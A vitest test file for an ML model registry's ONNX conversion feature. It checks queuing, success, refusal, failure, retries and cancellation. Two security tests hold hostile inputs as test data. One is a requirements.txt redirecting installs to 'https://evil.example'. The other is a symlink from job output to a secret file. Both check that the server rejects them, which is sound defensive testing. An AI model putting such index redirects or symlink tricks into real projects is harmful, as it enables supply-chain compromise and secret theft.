import { mkdir, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { localProject, runWithModel, SKLEARN_MLMODEL } from '../../../tests/harness/registry.ts'
import { startTestServer, type TestServer } from '../../../tests/harness/server.ts'
import { LOCAL } from '../../lib/actor.ts'
import { putArtifact } from '../artifacts/artifacts.service.ts'
import type { Project } from '../projects/projects.service.ts'
import { cancelJob, getJob, type Job, jobFolder } from '../training/jobs.service.ts'
import { conversionFinished, onnxForm, requestOnnx } from './forms.service.ts'
import type { FormReport } from './registry.schema.ts'
import { createModelVersion, findModelVersion, type ModelVersion } from './versions.service.ts'

let server: TestServer
let project: Project
let count = 0

beforeAll(async () => {
  server = await startTestServer({ jobSlots: '0' })
  project = await localProject(server, 'forms')
})
afterAll(() => server.close())

const REPORT: FormReport = {
  rows: 100,
  source: 'adult@1: test.parquet',
  label_agreement: 1,
  labels_differing: 0,
  probability: { max_abs: 1e-7, mean_abs: 1e-8, p50: 1e-8, p99: 1e-7, p999: 1e-7, share_within_tolerance: 1 },
  value: null,
  tolerance: { label_agreement: 0.999, probability_abs: 0.001, value_rel: 0.001, share: 0.999 },
  passed: true,
  versions: { skl2onnx: '1.20.0' },
  interface: {
    inputs: [{ name: 'age', column: 'age', type: 'int64', shape: [null, 1] }],
    outputs: { label: 'label', probabilities: 'probabilities', classes: ['no', 'yes'] },
  },
}

async function newVersion(files: Record<string, string> = {}): Promise<ModelVersion> {
  const { model } = await runWithModel(server, project, {
    MLmodel: SKLEARN_MLMODEL,
    'requirements.txt': 'mlflow==3.17.2\nscikit-learn==1.9.1\n',
    ...files,
  })
  return createModelVersion(server.ctx, LOCAL, project, {
    name: `m${++count}`,
    source: `models:/${model.id}`,
    createModel: true,
  })
}

/** The job of a version's form as it looks when it has ended so, with these files in its output folder. */
async function ended(
  version: ModelVersion,
  state: Job['state'],
  files: Record<string, string> = {},
  error: string | null = null,
): Promise<Job> {
  const form = await onnxForm(server.ctx, version.id)
  const job = await getJob(server.ctx, project.id, form?.jobId ?? '')
  const output = join(jobFolder(server.ctx.config, job.id), 'work', 'output')
  await mkdir(output, { recursive: true })
  for (const [name, text] of Object.entries(files)) await writeFile(join(output, name), text)
  return { ...job, state, error }
}

describe('the ONNX form', () => {
  it('is queued with its version, in a job that gets the model, its own requirements and the signature', async () => {
    const version = await newVersion()
    const form = await onnxForm(server.ctx, version.id)
    expect(form).toMatchObject({ state: 'queued', reason: null, blobSha256: null })
    const job = await getJob(server.ctx, project.id, form?.jobId ?? '')
    expect(job).toMatchObject({ kind: 'convert', createdBy: 'trainyard', name: `${version.name}/1 to ONNX` })
    expect(job.spec.convert).toMatchObject({
      script: 'onnx/convert.py',
      arguments: ['conversion.json'],
      artifacts: [{ path: version.artifactPath, as: 'model' }],
    })
    expect(job.spec.convert?.requirements).toContain('scikit-learn==1.9.1\n')
    expect(job.spec.convert?.requirements).toContain('skl2onnx==1.20.0\n')
    expect(JSON.parse(job.spec.convert?.files[0]?.text ?? '')).toMatchObject({
      flavor: 'sklearn',
      data: null,
      signature: { inputs: [{ name: 'age' }, { name: 'workclass' }] },
    })
    expect((await requestOnnx(server.ctx, LOCAL, project, version)).jobId).toBe(job.id)
  })

  it('becomes ready with content and report, once', async () => {
    const version = await newVersion()
    const job = await ended(version, 'succeeded', { 'model.onnx': 'bytes', 'report.json': JSON.stringify(REPORT) })
    await conversionFinished(server.ctx, job)
    const form = await onnxForm(server.ctx, version.id)
    expect(form).toMatchObject({ state: 'ready', sizeBytes: 5, report: REPORT, reason: null })
    await ended(version, 'succeeded', { 'model.onnx': 'other', 'report.json': JSON.stringify(REPORT) })
    await conversionFinished(server.ctx, job)
    expect(await onnxForm(server.ctx, version.id)).toEqual(form)
    expect((await requestOnnx(server.ctx, LOCAL, project, version)).jobId).toBe(job.id)
    const url = `/api/v1/projects/local/forms/models/${version.name}/versions/1`
    expect((await server.request('GET', `${url}/onnx/content`)).text).toBe('bytes')
    expect((await server.request('GET', url)).body.onnx).toMatchObject({
      state: 'ready',
      size_bytes: 5,
      report: REPORT,
    })
    const events = (await server.request('GET', '/api/v1/projects/local/forms/events')).body.events
    expect(
      events
        .filter(
          (event: { kind: string; subject: string }) => event.kind === 'form' && event.subject === `${version.name}/1`,
        )
        .map((event: { verb: string }) => event.verb),
    ).toEqual(['ready', 'queued'])
  })

  it('is refused with the reason, and the report when there is one; asking again tries again', async () => {
    const version = await newVersion()
    const failed = { ...REPORT, passed: false, label_agreement: 0.5, labels_differing: 50 }
    const job = await ended(version, 'succeeded', {
      'refused.json': '{"reason": "50 of 100 rows get another label"}',
      'report.json': JSON.stringify(failed),
      'model.onnx': 'x',
    })
    await conversionFinished(server.ctx, job)
    expect(await onnxForm(server.ctx, version.id)).toMatchObject({
      state: 'refused',
      reason: '50 of 100 rows get another label',
      report: failed,
      blobSha256: null,
    })
    const again = await requestOnnx(server.ctx, LOCAL, project, version)
    expect(again).toMatchObject({ state: 'queued', reason: null, report: null })
    expect(again.jobId).not.toBe(job.id)
  })

  it('fails with the last lines of the log', async () => {
    const version = await newVersion()
    const job = await ended(version, 'failed', {}, 'The code ended with status 1.')
    const lines = Array.from({ length: 50 }, (_, i) => `line ${i}`)
    await writeFile(
      join(jobFolder(server.ctx.config, job.id), 'log.txt'),
      `${lines.join('\n')}\n\u001b[31mMemoryError\u0000\u001b[0m\n`,
    )
    await conversionFinished(server.ctx, job)
    const { reason, state } = (await onnxForm(server.ctx, version.id))!
    expect(state).toBe('failed')
    expect(reason).toContain('The code ended with status 1.')
    expect(reason).toMatch(/line 49\nMemoryError$/)
    expect(reason).not.toContain('line 10\n')
    const { events } = (await server.request('GET', '/api/v1/projects/local/forms/events')).body
    expect(events.find((event: { verb: string }) => event.verb === 'failed').detail.reason).toBe(
      'The conversion job failed: The code ended with status 1.',
    )
  })

  it('of a cancelled job is failed', async () => {
    const version = await newVersion()
    const { jobId } = (await onnxForm(server.ctx, version.id))!
    await cancelJob(server.ctx, LOCAL, project, jobId!)
    await expect.poll(async () => (await onnxForm(server.ctx, version.id))?.state, { timeout: 5_000 }).toBe('failed')
  })

  it('is tried three times when its job is lost', async () => {
    const version = await newVersion()
    const jobs = new Set<string | null>()
    for (let attempt = 1; attempt <= 3; attempt++) {
      const job = await ended(version, 'lost')
      jobs.add(job.id)
      await conversionFinished(server.ctx, job)
      await conversionFinished(server.ctx, job) // at least once means sometimes twice
      expect((await onnxForm(server.ctx, version.id))?.state).toBe(attempt < 3 ? 'queued' : 'failed')
    }
    expect(jobs.size).toBe(3)
  })

  it('believes nothing that the job wrote without looking', async () => {
    const secret = join(server.folder, 'secret.txt')
    await writeFile(secret, 'secret')
    const linked = await newVersion()
    const job = await ended(linked, 'succeeded', { 'report.json': JSON.stringify(REPORT) })
    await symlink(secret, join(jobFolder(server.ctx.config, job.id), 'work', 'output', 'model.onnx'))
    await conversionFinished(server.ctx, job)
    expect(await onnxForm(server.ctx, linked.id)).toMatchObject({ state: 'failed', blobSha256: null })
    const cases: Record<string, string>[] = [
      {},
      { 'model.onnx': 'x' },
      { 'model.onnx': 'x', 'report.json': '{"passed": true}' },
      { 'model.onnx': 'x', 'report.json': JSON.stringify({ ...REPORT, passed: false }) },
      { 'report.json': JSON.stringify(REPORT) },
    ]
    for (const files of cases) {
      const version = await newVersion()
      await conversionFinished(server.ctx, await ended(version, 'succeeded', files))
      expect(await onnxForm(server.ctx, version.id), JSON.stringify(files)).toMatchObject({
        state: 'failed',
        blobSha256: null,
      })
    }
  })

  it('is refused at once for requirements that are none, and for other flavors when asked for', async () => {
    const evil = await newVersion({ 'requirements.txt': '--index-url https://evil.example\nscikit-learn\n' })
    expect(await onnxForm(server.ctx, evil.id)).toMatchObject({
      state: 'refused',
      jobId: null,
      reason: expect.stringContaining('--index-url'),
    })
    const torch = await newVersion({ MLmodel: 'flavors:\n  pytorch: {}\n' })
    expect(await onnxForm(server.ctx, torch.id)).toBeNull()
    expect(await requestOnnx(server.ctx, LOCAL, project, torch)).toMatchObject({
      state: 'refused',
      reason: expect.stringContaining('pytorch'),
    })
  })

  it('can be asked for when the files came after the version', async () => {
    const { model, folder } = await runWithModel(server, project)
    const version = await createModelVersion(server.ctx, LOCAL, project, {
      name: 'late',
      source: `models:/${model.id}`,
      createModel: true,
    })
    expect(version.mlmodel).toBeNull()
    await putArtifact(server.ctx, project, `${folder}/MLmodel`, Readable.from([Buffer.from(SKLEARN_MLMODEL)]))
    const found = await findModelVersion(server.ctx, project.id, 'late', { version: 1 })
    expect(found.mlmodel?.flavors).toContain('sklearn')
    expect((await requestOnnx(server.ctx, LOCAL, project, found)).state).toBe('queued')
    const answer = await server.request('POST', '/api/v1/projects/local/forms/models/late/versions/1/onnx')
    expect(answer).toMatchObject({ status: 202, body: { state: 'queued' } })
  })
})
